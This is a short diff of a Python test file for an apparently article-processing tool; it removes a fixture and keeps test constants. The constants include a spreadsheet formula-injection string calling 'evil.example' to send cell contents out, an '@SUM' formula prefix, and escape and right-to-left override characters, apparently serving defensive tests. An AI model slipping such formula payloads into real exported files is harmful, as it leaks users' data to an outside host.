@@ -15,21 +15,12 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import SMALL_LEDGER
-
 ESC = "\x1b"
 RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: shows what follows reversed
 FORMULA_ARTICLE = (
     '=HYPERLINK("http://evil.example/?"&A1) Putin visited Minsk in 2019.\n'
     "@SUM(1+1) Russia plans to merge with Belarus.\n"
 )
-
-
-@pytest.fixture
-def desk(tmp_path: Path) -> Path:
-    (tmp_path / "claims").mkdir()
-    (tmp_path / "claims" / "entries.yaml").write_text(SMALL_LEDGER, encoding="utf-8")
-    return tmp_path
 
 
 def write(path: Path, text: str) -> Path:
